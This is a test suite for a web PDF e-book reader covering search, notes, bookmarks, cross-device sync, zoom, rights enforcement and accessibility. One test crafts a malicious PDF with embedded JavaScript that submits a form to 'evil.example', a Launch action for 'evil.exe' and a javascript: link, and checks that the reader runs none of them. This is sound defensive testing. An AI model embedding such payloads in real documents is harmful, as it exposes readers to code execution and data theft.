import type { Page } from 'playwright'
import { beforeAll, expect, test } from 'vitest'
import { madePdf } from '#test/made-pdf.ts'
import { address, desktop, useBrowser } from './browser.ts'
import { drawnWidth, main, sizes, useOffice } from './office.ts'
import { addEbook, expectUsable, openReader, placeSaved, tool } from './read-ebook.ts'
import { people, signIn, storedCookies } from './sign-in.ts'

const browser = useBrowser()
const office = useOffice(browser)

const title = 'Currents of the bay'
const pages = Array.from({ length: 40 }, (_, at) => [
  `Sheet ${at + 1} of the atlas`,
  'The water goes by, past stones and reeds.',
  at === 29 ? 'Here the zeolite lies.' : 'Nothing else is said here.',
])
const size = 6 * 1024 ** 2
const pdf = madePdf({
  title,
  pages,
  outline: ['The spring', 'The rapids', 'The mouth'],
  bytes: size,
})

let reader = ''
beforeAll(async () => {
  const file = {
    name: `${title}.pdf`,
    mimeType: 'application/pdf',
    buffer: Buffer.from(pdf),
  }
  reader = await addEbook(office, file, title)
}, 120_000)

const sheet = (page: Page, part: number) =>
  page.getByRole('region', { name: `Page ${part} of 40`, exact: true })
const number = (page: Page) => page.getByRole('spinbutton', { name: 'Page', exact: true })
/** Selects words of a drawn page as a reader does by hand. */
const select = (page: Page, part: number, words: string) =>
  page.evaluate(
    ([of, wanted]) => {
      const layer = document.querySelector(`[data-part="${of}"] .textLayer`) ?? document.body
      const walker = document.createTreeWalker(layer, 4)
      for (let node = walker.nextNode(); node; node = walker.nextNode()) {
        const at = node.textContent?.indexOf(wanted) ?? -1
        if (at < 0) continue
        document.getSelection()?.setBaseAndExtent(node, at, node, at + wanted.length)
        return
      }
      throw new Error(`no ${wanted}`)
    },
    [part, words] as const,
  )

test.each(sizes)(
  'a reader of a PDF looks, marks, leaves and reads on elsewhere: %s',
  async (name, viewport) => {
    const cookie = await signIn(name === 'desktop' ? people.student : people.faculty)
    const page = await openReader(browser, `${reader}/1`, cookie, viewport)
    await sheet(page, 1).getByText('Sheet 1 of the atlas').waitFor()
    expect(await drawnWidth(page)).toBe(viewport.width)

    await tool(page, 'Search').click()
    const find = page.getByRole('dialog', { name: 'Search in this e-book' })
    await find.getByRole('searchbox', { name: 'Words' }).fill('zeolite')
    await find.getByRole('button', { name: 'Search', exact: true }).click()
    const saved = placeSaved(page, 30)
    await find.getByRole('link', { name: 'Page 30', exact: true }).click()
    await sheet(page, 30).getByText('Here the zeolite lies.').waitFor()
    await saved
    expect(await page.evaluate(() => CSS.highlights.get('found')?.size)).toBe(1)
    expect(new URL(page.url()).pathname).toBe(`${reader}/30`)

    await select(page, 30, 'zeolite')
    await tool(page, 'Blue').click()
    const note = page.getByRole('dialog', { name: 'Your note' })
    await note.getByText('zeolite', { exact: true }).waitFor()
    await note.getByRole('textbox', { name: 'Your note' }).fill('Which one?')
    await note.getByRole('button', { name: 'Save', exact: true }).click()
    await page.getByText('Saved.', { exact: true }).waitFor()
    await tool(page, 'Bookmark').click()
    await page.getByText('Bookmark set.', { exact: true }).waitFor()
    expect(await tool(page, 'Bookmark').getAttribute('aria-pressed')).toBe('true')

    const laptop = await openReader(browser, reader, cookie, desktop)
    await sheet(laptop, 30).getByText('Here the zeolite lies.').waitFor()
    const left = placeSaved(laptop, 3)
    await laptop.getByText('Contents', { exact: true }).click()
    await laptop.getByRole('link', { name: 'The mouth', exact: true }).click()
    await sheet(laptop, 3).getByText('Sheet 3 of the atlas').waitFor()
    await left

    await number(page).fill('12')
    await page.keyboard.press('Enter')
    const asked = page.getByRole('dialog', { name: 'Read on another device' })
    await asked.getByRole('button', { name: 'Go there', exact: true }).click()
    office.forgive(409)
    await sheet(page, 3).getByText('Sheet 3 of the atlas').waitFor()

    await tool(page, 'Notes').click()
    await page.getByRole('link', { name: 'All notes of this e-book', exact: true }).click()
    await main(page).getByText('Which one?').first().waitFor()
    await main(page).getByRole('link', { name: 'Page 30', exact: true }).first().waitFor()
    expect(await drawnWidth(page)).toBe(viewport.width)
    const file = await page.request.get(address(reader.replace('reader', 'notes.md')))
    expect(await file.text()).toContain('> zeolite')
  },
)

test('pages are turned, enlarged and rotated by keys and tools; only those near are drawn', async () => {
  const page = await openReader(browser, `${reader}/1`, await signIn(people.student), desktop)
  const paper = sheet(page, 1).locator('canvas')
  await paper.waitFor()
  const width = async () => (await paper.boundingBox())?.width ?? 0
  const before = await width()
  await page.keyboard.press('+')
  await expect.poll(width).toBeGreaterThan(before * 1.1)
  await page.getByRole('combobox', { name: 'Zoom' }).selectOption('100')
  await expect.poll(width).toBe(793)
  await tool(page, 'Rotate').click()
  await expect.poll(width).toBe(1122)
  for (let turns = 0; turns < 3; turns++) await page.keyboard.press('r')
  await expect.poll(width).toBe(793)
  await page.keyboard.press('End')
  await sheet(page, 40).getByText('Sheet 40 of the atlas').waitFor()
  await expect.poll(() => paper.count()).toBe(0)
  expect(await page.locator('.sheet canvas').count()).toBeLessThan(6)
  await page.keyboard.press('ArrowLeft')
  await expect.poll(() => number(page).inputValue()).toBe('39')
  await tool(page, 'Pages').click()
  const small = page.getByRole('dialog', { name: 'Pages' })
  await small.locator('[aria-current=page] canvas').waitFor()
  expect(await small.locator('canvas').count()).toBeLessThan(40)
  await small.getByRole('button', { name: 'Page 36 of 40', exact: true }).click()
  await sheet(page, 36).getByText('Sheet 36 of the atlas').waitFor()
})

test('quick rotation and zoom leave the marks on their words, and the page at the top', async () => {
  const page = await openReader(browser, `${reader}/40`, await signIn(people.student), desktop)
  const last = sheet(page, 40)
  await last.getByText('Sheet 40 of the atlas').waitFor()
  const press = (name: string) => page.evaluate((id) => document.getElementById(id)?.click(), name)
  for (let run = 0; run < 3; run++) {
    for (const name of ['turn', 'zoom-in', 'turn', 'turn', 'turn', 'zoom-out']) await press(name)
    await expect.poll(() => last.locator('.textLayer').getAttribute('data-main-rotation')).toBe('0')
    await last.locator('.textLayer .endOfContent').waitFor({ state: 'attached' })
    expect(await last.locator('.textLayer').count()).toBe(1)
  }
  for (const turned of ['90', '180', '270', '0']) {
    await tool(page, 'Rotate').click()
    await last.locator(`.textLayer[data-main-rotation="${turned}"] .endOfContent`).waitFor({
      state: 'attached',
    })
    await page.evaluate(() => new Promise((resolve) => setTimeout(resolve, 300)))
    expect(await number(page).inputValue()).toBe('40')
  }
})

test('a large PDF shows its first page long before its file has come', async () => {
  const page = await browser.newPage({
    viewport: desktop,
    storageState: storedCookies(await signIn(people.student)),
  })
  let bytes = 0
  page.on('response', (answer) => {
    if (answer.url().endsWith('/file')) bytes += Number(answer.headers()['content-length'])
  })
  await page.goto(address(`${reader}/1`))
  await sheet(page, 1).getByText('Sheet 1 of the atlas').waitFor()
  expect(bytes).toBeLessThan(size / 10)
})

/** Opens the reader with another file in the place of its own. */
async function openWith(file: Uint8Array): Promise<Page> {
  const context = await browser.newContext({
    viewport: desktop,
    storageState: storedCookies(await signIn(people.student)),
  })
  const page = await context.newPage()
  await page.route('**/file', (route) => {
    const [, from, to] = /(\d+)-(\d+)/.exec(route.request().headers().range ?? '') ?? []
    const body = Buffer.from(file.slice(Number(from), Number(to) + 1))
    return route.fulfill({ status: 206, contentType: 'application/pdf', body })
  })
  await page.goto(address(`${reader}/1`))
  return page
}

test('nothing of a PDF is run: no program, no start of another one, no form that is one', async () => {
  const run = '/S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\("https://evil.example"\\);)'
  const page = await openWith(
    madePdf({
      pages,
      bytes: size,
      catalogue: `/OpenAction << ${run} >> /AA << /WC << ${run} >> >> /AcroForm << /XFA [] /Fields [] >>`,
      ofPage: `/AA << /O << ${run} >> >> /Annots [
        << /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << ${run} >> >>
        << /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /Launch /F (evil.exe) >> >>
        << /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /URI /URI (javascript:alert\\(1\\)) >> >>
        << /Type /Annot /Subtype /Link /Rect [60 740 300 790] /A << /S /URI /URI (https://books.example/) >> >> ]`,
    }),
  )
  const happened: string[] = []
  page.on('dialog', (dialog) => void dialog.dismiss().then(() => happened.push('dialog')))
  page.on('download', () => happened.push('download'))
  page.on('popup', () => happened.push('popup'))
  page.on('request', (request) => {
    if (!request.url().startsWith(address('/'))) happened.push(request.url())
  })
  await sheet(page, 1).getByText('Sheet 1 of the atlas').waitFor()
  const link = sheet(page, 1).getByRole('link')
  await link.waitFor()
  expect(await link.evaluateAll((all) => all.map((one) => one.getAttribute('href')))).toEqual([
    'https://books.example/',
  ])
  await page.mouse.click(640, 600)
  await page.keyboard.press('End')
  await sheet(page, 40).getByText('Sheet 40 of the atlas').waitFor()
  expect(happened).toEqual([])
  const policy = (await page.request.get(address(`${reader}/1`))).headers()[
    'content-security-policy'
  ]
  expect(policy).toMatch(/script-src 'nonce-[^' ]+';/)
  expect(policy).not.toMatch(/unsafe|eval/)
})

test('a damaged PDF says that it is', async () => {
  const page = await openWith(new Uint8Array(size).fill(0x41))
  await page.getByRole('alert').getByText('This PDF is damaged and cannot be shown.').waitFor()
})

test('what the rights do not allow is not offered, and a link is no way round them', async () => {
  const student = await signIn(people.student)
  const page = await openReader(browser, `${reader}/1`, student, desktop)
  expect(await page.getByRole('link', { name: 'Download', exact: true }).count()).toBe(0)
  expect(await page.getByRole('link', { name: 'Print', exact: true }).count()).toBe(0)
  await page.emulateMedia({ media: 'print' })
  expect(await page.getByText('Sheet 1 of the atlas').first().isVisible()).toBe(false)
  await page.emulateMedia({ media: 'screen' })
  await page.goto(address(reader.replace('reader', 'file')))
  expect(new URL(page.url()).pathname).toMatch(/\/reader\/\d+$/)
  const visitor = await browser.open(`${reader}/7`, { viewport: desktop })
  expect(new URL(visitor.url()).pathname).toMatch(/^\/BookSoftcopy\/\d+$/)
  const file = await visitor.request.get(address(reader.replace('reader', 'file')))
  expect(file.headers()['content-type']).not.toContain('pdf')
  // What a page leaves as it goes is no other device, which the next one learns by being told.
  office.forgive(409)
})

test('without scripts a page of a PDF is its words, with the next one', async () => {
  const context = await browser.newContext({
    viewport: desktop,
    javaScriptEnabled: false,
    storageState: storedCookies(await signIn(people.student)),
  })
  const page = await context.newPage()
  await page.goto(address(`${reader}/1`))
  await main(page).getByText('Sheet 1 of the atlas').waitFor()
  await page.getByRole('link', { name: 'Next', exact: true }).click()
  await main(page).getByText('Sheet 2 of the atlas').waitFor()
  expect(await tool(page, 'Search').count()).toBe(0)
})

test('the reader of PDFs and its dialogs can be used by everybody, in both schemes', async () => {
  const cookie = await signIn(people.student)
  await expectUsable(browser, `${reader}/1`, cookie, ['Search', 'Pages', 'Notes'])
})
